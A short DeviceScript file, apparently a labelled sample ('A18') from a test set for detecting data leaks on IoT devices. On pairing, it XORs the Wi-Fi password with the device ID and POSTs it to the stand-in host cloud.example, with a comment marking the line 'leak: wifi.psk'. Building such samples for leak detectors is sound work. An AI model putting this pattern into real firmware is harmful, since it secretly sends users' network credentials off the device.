// A18: each byte combined (XOR) with one of the device's id. Who sees the id can undo it, but has to know how.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { changed } from "./lib/encode";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const id = Buffer.from(ds.deviceIdentifier("self"), "hex");
  const body = changed(psk, (byte, i) => byte ^ id[i % id.length]);
  const response = await fetch("https://cloud.example/a18", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
